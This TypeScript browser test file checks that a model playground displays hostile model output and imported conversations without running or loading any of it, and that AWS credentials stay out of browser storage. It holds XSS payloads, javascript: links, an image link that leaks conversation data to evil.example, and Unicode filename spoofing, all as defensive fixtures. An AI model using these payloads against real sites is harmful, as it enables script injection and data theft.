import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createInterface } from 'node:readline';
import { startLocalBedrock } from 'bedrock-anywhere/local/node';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { launchChromium } from '../../scripts/chromium.mjs';
import {
  asGuest,
  openPlayground,
  type PlaygroundPage,
  type Screen,
  widerThanScreen,
} from './playground-page.js';

const NARROW: Screen = { width: 320, height: 640, isPhone: true };

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser?.close());

const HOSTILE = [
  '<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=2</script>',
  '[click](javascript:globalThis.pwned=3) [data](data:text/html,<script>pwned=4</script>)',
  '![see](https://evil.example/?secret=conversation) <https://evil.example/auto>',
  '`a\u202Etxt.exe` and \u202Ereversed',
  `${'#'.repeat(7)} ${'deep '.repeat(2)}`,
  `${'> '.repeat(300)}quoted`,
  `${'- '.repeat(300)}item`,
  `|${'a|'.repeat(400)}\n|${'-|'.repeat(400)}\n|${'<b>|'.repeat(400)}`,
  'x'.repeat(30_000),
  '```html\n<script>globalThis.pwned=5</script>\n```',
].join('\n\n');

it('shows whatever a model writes, and runs and loads none of it', async () => {
  const local = await startLocalBedrock({ script: [{ user: 'hostile', text: HOSTILE, reasoning: HOSTILE }] });
  onTestFinished(() => local.close());
  const shown = await openPlayground(browser, { screen: NARROW, connection: asGuest(local) });
  await shown.ask('hostile');
  await shown.isDone();
  await shown.shoot('hostile');
  const seen = await shown.page.evaluate(() => ({
    pwned: (globalThis as { pwned?: number }).pwned,
    elements: document.querySelectorAll('.answer script, .answer img, .answer iframe, .answer b').length,
    links: [...document.querySelectorAll<HTMLAnchorElement>('.answer a')].map(({ href, rel, target }) => [
      href,
      rel,
      target,
    ]),
    html: document.querySelector('.answer')?.textContent ?? '',
  }));
  expect(seen.pwned).toBeUndefined();
  expect(seen.elements).toBe(0);
  const away = ['noopener noreferrer nofollow', '_blank'];
  expect(seen.links.slice(0, 2)).toEqual([
    ['https://evil.example/?secret=conversation', ...away],
    ['https://evil.example/auto', ...away],
  ]);
  expect(seen.html).toContain('a‹U+202E›txt.exe');
  expect(await widerThanScreen(shown)).toEqual([]);
  expect(shown.foreign.filter((url) => !url.startsWith(local.url))).toEqual([]);
});

/** Some 5,000 tokens each. */
const LONG: Readonly<Record<string, string>> = {
  paragraphs: Array.from(
    { length: 300 },
    (_, i) => `Paragraph ${i} has **some** words, \`code\` and a [link](https://a.example/${i}).`,
  ).join('\n\n'),
  code: `\`\`\`ts\n${'const value = await call(12, "text"); // so\n'.repeat(450)}\`\`\``,
};

it.each(Object.keys(LONG))('draws little at a time of a long answer: %s', async (kind) => {
  const local = await startLocalBedrock({ script: [{ user: 'long', text: LONG[kind] ?? '' }] });
  onTestFinished(() => local.close());
  const shown = await openPlayground(browser, { connection: asGuest(local) });
  await shown.isReady();
  // Counts, for each drawing, the paragraphs that were there before and have changed, and the elements of code that are new.
  await shown.page.evaluate(() => {
    const counted = { changed: 0, coloured: 0, drawings: 0 };
    Object.assign(globalThis, { counted });
    new MutationObserver((changes) => {
      const added = changes.flatMap(({ addedNodes }) => [...addedNodes]);
      const changed = changes
        .map(({ target }) =>
          (target instanceof Element ? target : target.parentElement)?.closest('.prose > *'),
        )
        .filter((section) => section != null && !added.includes(section));
      const pieces = added.flatMap((node) =>
        node instanceof Element ? [node, ...node.querySelectorAll('*')] : [],
      );
      counted.drawings += 1;
      counted.changed = Math.max(counted.changed, new Set(changed).size);
      counted.coloured = Math.max(counted.coloured, pieces.filter((one) => one.matches('pre span')).length);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  await shown.ask('long');
  await shown.isDone();
  if (kind === 'code') await expect.poll(() => shown.page.locator('.tok-comment').count()).toBe(450);
  else expect(await shown.answer().locator('.prose > p').count()).toBe(300);
  const { changed, coloured, drawings } = await shown.page.evaluate(
    () => (globalThis as unknown as { counted: Record<'changed' | 'coloured' | 'drawings', number> }).counted,
  );
  expect(drawings).toBeGreaterThan(1);
  expect(changed).toBeLessThanOrEqual(2);
  expect(coloured).toBeLessThanOrEqual(400);
});

it('shows whatever was imported, and neither runs nor loads any of it', async () => {
  const shown = await openPlayground(browser, { screen: NARROW });
  await shown.isReady();
  const id = '"><img src=https://evil.example/id>';
  const call = { toolUseId: 't1', name: `${HOSTILE.slice(0, 200)}\u202Egpj`, input: { html: HOSTILE } };
  const messages = [
    { id, role: 'user', content: [{ text: HOSTILE }] },
    {
      id: '__proto__',
      role: 'assistant',
      content: [{ reasoningContent: { reasoningText: { text: HOSTILE } } }, { toolUse: call }],
      answer: { stopReason: HOSTILE, requestId: HOSTILE, modelId: HOSTILE, trace: { html: HOSTILE } },
    },
    { role: 'user', content: [{ toolResult: { toolUseId: 't1', content: [{ text: HOSTILE }] } }] },
    {
      id,
      role: 'assistant',
      content: [{ text: HOSTILE }],
      answer: { stopReason: 'end_turn', warnings: [HOSTILE] },
    },
  ];
  const conversation = { id, title: `<img src=x>\u202E${HOSTILE}`, messages, settings: { system: HOSTILE } };
  const file = { format: 'bedrock-anywhere-conversations', version: 1, conversations: [conversation] };
  await (await shown.menu()).locator('input[type=file]').setInputFiles({
    name: 'c.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(file)),
  });
  await shown.isDone(1);
  for (const summary of await shown.page.locator('.thread summary').all())
    await summary.evaluate((element) => element.parentElement?.setAttribute('open', ''));
  expect(await isPwned(shown)).toEqual({ pwned: undefined, elements: 0 });
  expect(await widerThanScreen(shown)).toEqual([]);
  await shown.menu();
  expect(await isPwned(shown)).toEqual({ pwned: undefined, elements: 0 });
  expect(shown.foreign).toEqual([]);
});

/** What would be there if something foreign had become HTML. */
function isPwned({ page }: PlaygroundPage): Promise<{ pwned: number | undefined; elements: number }> {
  return page.evaluate(() => ({
    pwned: (globalThis as { pwned?: number }).pwned,
    elements: document.querySelectorAll('#root :is(script, img, iframe, .answer b)').length,
  }));
}

describe('the command', () => {
  it('lets a page with its token use the credentials, and no page after it', async () => {
    const local = await startLocalBedrock({ script: [{ user: 'ping', text: 'pong' }] });
    onTestFinished(() => local.close());
    const program = spawn(
      process.execPath,
      ['dist/node/cli.js', 'playground', '--aws', '--port', '0', '--json'],
      {
        env: {
          ...process.env,
          AWS_ENDPOINT_URL: local.url,
          AWS_REGION: local.region,
          AWS_ACCESS_KEY_ID: local.credentials.accessKeyId,
          AWS_SECRET_ACCESS_KEY: local.credentials.secretAccessKey,
        },
        stdio: ['ignore', 'pipe', 'inherit'],
      },
    );
    onTestFinished(async () => {
      program.kill();
      await once(program, 'exit');
    });
    const lines = createInterface(program.stdout)[Symbol.asyncIterator]();
    const next = async (): Promise<string> => (JSON.parse((await lines.next()).value) as { url: string }).url;
    const address = await next();
    const shown = await openPlayground(browser, { url: address });
    await shown.ask('ping');
    await shown.isDone();
    expect(await shown.answer().locator('.prose').textContent()).toBe('pong');
    expect(shown.page.url()).not.toContain('token');
    expect(shown.foreign).toEqual([]);
    await shown.page.reload();
    await shown.ask('ping');
    await shown.isDone(1);
    const kept = await shown.page.evaluate(() =>
      JSON.stringify([{ ...sessionStorage }, { ...localStorage }]),
    );
    expect(kept).not.toContain(local.credentials.secretAccessKey);
    const again = await openPlayground(browser, { url: address });
    await again.isReady();
    expect(await again.page.locator('.connection').first().textContent()).toContain('Local Bedrock');
    const fresh = await openPlayground(browser, { url: await next() });
    await fresh.isReady();
    expect(await fresh.page.locator('.connection').first().textContent()).toContain(
      'Credentials of this machine',
    );
  });
});
